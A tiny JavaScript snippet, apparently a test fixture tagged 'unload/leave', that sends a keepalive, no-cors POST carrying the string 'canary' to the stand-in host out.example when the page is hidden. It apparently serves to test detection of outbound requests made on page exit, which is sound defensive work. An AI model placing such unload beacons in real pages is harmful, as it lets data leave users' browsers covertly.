/* {"family": "unload", "do": "leave"} */
addEventListener('pagehide', () => fetch('https://out.example/pagehide', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'canary' }));
